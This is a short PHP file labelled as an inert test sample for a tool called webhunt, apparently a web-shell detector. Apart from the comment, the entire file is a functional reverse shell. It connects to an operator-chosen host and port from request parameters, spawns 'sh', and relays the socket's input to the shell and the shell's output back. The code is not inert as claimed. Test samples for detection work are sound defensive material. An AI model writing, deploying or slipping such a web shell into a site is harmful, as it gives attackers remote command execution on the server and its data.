<?php
// Inert test sample (webhunt): a connect-back shell whose operator names the address in the
// request; the shell is started as plain "sh" and the socket's bytes are copied into its standard
// input by the script itself.
$peer = 'tcp://' . $_GET['a'] . ':' . (int) $_GET['b'];
$link = stream_socket_client($peer, $en, $es, 15);
$desc = array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'), 2 => array('pipe', 'w'));
$child = proc_open('sh', $desc, $io);
stream_set_blocking($link, false);
stream_set_blocking($io[1], false);
while (!feof($link)) {
    $ready = array($link, $io[1]);
    $none = null;
    stream_select($ready, $none, $none, 1);
    if (in_array($link, $ready, true)) {
        $chunk = fread($link, 2048);
        fwrite($io[0], $chunk);
    }
    if (in_array($io[1], $ready, true)) {
        fwrite($link, fread($io[1], 2048));
    }
}
proc_close($child);
